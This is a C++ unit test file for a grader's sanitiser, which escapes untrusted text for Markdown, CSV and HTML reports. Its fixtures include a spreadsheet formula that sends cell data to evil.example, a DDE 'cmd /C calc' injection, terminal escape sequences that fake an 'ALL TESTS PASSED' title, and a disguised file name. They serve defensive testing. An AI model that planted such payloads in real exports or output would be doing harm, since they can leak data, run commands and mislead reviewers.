#include "report/untrusted_text.h"

#include <gtest/gtest.h>

namespace grader {
namespace {

// What a hostile program prints to stderr: clear the screen, set the terminal title,
// go back to the start of the line to overwrite it, ring the bell.
const char* kHostile = "\x1b[2J\x1b]0;ALL TESTS PASSED\x07\rok";
const char* kFormula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

TEST(MarkdownInline, escapes_what_would_change_the_markup) {
  EXPECT_EQ(markdown_inline("a|b *c* <d>\nx"), "a\\|b \\*c\\* \\<d\\> x");
}

TEST(MarkdownInline, shows_control_characters_as_escaped_text) {
  // display_text gives \x1b[2J...; Markdown then escapes the backslash and the bracket.
  EXPECT_EQ(markdown_inline(kHostile), "\\\\x1b\\[2J\\\\x1b\\]0;ALL TESTS PASSED\\\\x07\\\\x0dok");
  EXPECT_EQ(markdown_inline("\xe2\x80\xae"
                            "gpj.exe"),
            "\\\\u202egpj.exe");
}

TEST(MarkdownCodeBlock, uses_a_fence_longer_than_any_backticks_inside) {
  EXPECT_EQ(markdown_code_block("a ``` b"), "````text\na ``` b\n````\n\n");
  EXPECT_EQ(markdown_code_block("plain\n"), "```text\nplain\n```\n\n");
}

TEST(MarkdownCodeBlock, keeps_lines_and_escapes_control_characters) {
  EXPECT_EQ(markdown_code_block(std::string(kHostile) + "\nnext\n"),
            "```text\n\\x1b[2J\\x1b]0;ALL TESTS PASSED\\x07\\x0dok\nnext\n```\n\n");
}

TEST(CsvField, leaves_plain_text_alone) {
  EXPECT_EQ(csv_field("alice"), "alice");
  EXPECT_EQ(csv_field("5.25"), "5.25");
  EXPECT_EQ(csv_field("a-b+c=d@e"), "a-b+c=d@e");  // only a leading sign is a formula
  EXPECT_EQ(csv_field(""), "");
}

TEST(CsvField, quotes_commas_and_quotes_and_doubles_quotes) {
  EXPECT_EQ(csv_field("Smith, Jane"), "\"Smith, Jane\"");
  EXPECT_EQ(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv_field(" padded "), "\" padded \"");
}

TEST(CsvField, keeps_a_row_on_one_line) {
  EXPECT_EQ(csv_field("two\nlines"), "two\\x0alines");
  EXPECT_EQ(csv_field("cr\rhere"), "cr\\x0dhere");
}

// OWASP "CSV Injection": prefix ' to a field starting with = + - @ tab or CR, and quote.
TEST(CsvIdentifier, keeps_every_byte_and_quotes_only_where_csv_needs_it) {
  EXPECT_EQ(csv_identifier("-rf"), "-rf");
  EXPECT_EQ(csv_identifier("=1+1"), "=1+1");
  EXPECT_EQ(csv_identifier("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_identifier("a\"b"), "\"a\"\"b\"");
  EXPECT_EQ(csv_identifier("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(csv_identifier(" x"), "\" x\"");
}

TEST(CsvIdentifier, quotes_every_field_when_asked_and_still_keeps_every_byte) {
  EXPECT_EQ(csv_identifier("jdoe", CsvQuotes::always), "\"jdoe\"");
  EXPECT_EQ(csv_identifier("", CsvQuotes::always), "\"\"");
  EXPECT_EQ(csv_identifier("-rf", CsvQuotes::always), "\"-rf\"");
  EXPECT_EQ(csv_identifier("a\"b", CsvQuotes::always), "\"a\"\"b\"");
}

TEST(CsvField, guards_formulas_by_the_owasp_rule) {
  EXPECT_EQ(csv_field(kFormula), "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
  EXPECT_EQ(csv_field("+1+cmd|' /C calc'!A0"), "\"'+1+cmd|' /C calc'!A0\"");
  EXPECT_EQ(csv_field("-2+3"), "\"'-2+3\"");
  EXPECT_EQ(csv_field("@SUM(A1)"), "\"'@SUM(A1)\"");
  // Tab and CR are shown as \t and \x0d first, so they cannot start a formula.
  EXPECT_EQ(csv_field("\t=1"), "\\t=1");
  EXPECT_EQ(csv_field("\r=1"), "\\x0d=1");
}

// A Markdown list ("- item") is text to a spreadsheet; a sign before a number, a formula,
// a call, a DDE link or another sheet's cell is not.
TEST(CsvField, leaves_a_list_item_unguarded_and_guards_a_sign_that_may_run) {
  EXPECT_EQ(csv_field("- first point"), "- first point");
  EXPECT_EQ(csv_field("+ first point"), "+ first point");
  EXPECT_EQ(csv_field("- 2+3"), "\"'- 2+3\"");
  EXPECT_EQ(csv_field("-  -1"), "\"'-  -1\"");
  EXPECT_EQ(csv_field("- =1"), "\"'- =1\"");
  EXPECT_EQ(csv_field("- see f(x)"), "\"'- see f(x)\"");
  EXPECT_EQ(csv_field("- a|b"), "\"'- a|b\"");
  EXPECT_EQ(csv_field("- Sheet2!A1"), "\"'- Sheet2!A1\"");
  EXPECT_EQ(csv_field("- "), "\"'- \"");
}

// A late penalty in the gradebook ("-0.3") is a number to a spreadsheet, not a formula.
TEST(CsvField, leaves_a_signed_number_unguarded) {
  EXPECT_EQ(csv_field("-0.3"), "-0.3");
  EXPECT_EQ(csv_field("+12"), "+12");
  EXPECT_EQ(csv_field("-2+3"), "\"'-2+3\"");
  EXPECT_EQ(csv_field("-1."), "\"'-1.\"");
  EXPECT_EQ(csv_field("-.5"), "\"'-.5\"");
  EXPECT_EQ(csv_field("-1.2.3"), "\"'-1.2.3\"");
  EXPECT_EQ(csv_field("-"), "\"'-\"");
}

TEST(CsvTextField, keeps_line_breaks_inside_quotes) {
  EXPECT_EQ(csv_text_field("- one\n- two"), "\"- one\n- two\"");
  EXPECT_EQ(csv_text_field("=1\nx"), "\"'=1\nx\"");
  EXPECT_EQ(csv_text_field("one line"), "one line");
  EXPECT_EQ(csv_text_field("bell\a\n"), "\"bell\\x07\n\"");
}

TEST(HtmlEscape, escapes_markup_and_quotes) {
  EXPECT_EQ(html_escape("<a href=\"x\">&'"), "&lt;a href=&quot;x&quot;&gt;&amp;&#39;");
}

TEST(HtmlEscape, shows_control_characters_as_escaped_text) {
  EXPECT_EQ(html_escape(kHostile), "\\x1b[2J\\x1b]0;ALL TESTS PASSED\\x07\\x0dok");
  EXPECT_EQ(html_escape("\xc2\x9b"
                        "2J"),
            "\\u009b2J");
}

TEST(UntrustedText, does_not_escape_twice) {
  std::string once = display_text(kHostile);
  EXPECT_EQ(markdown_code_block(once), markdown_code_block(kHostile));
  EXPECT_EQ(csv_field(once), csv_field(kHostile));
  EXPECT_EQ(html_escape(once), html_escape(kHostile));
}

}  // namespace
}  // namespace grader
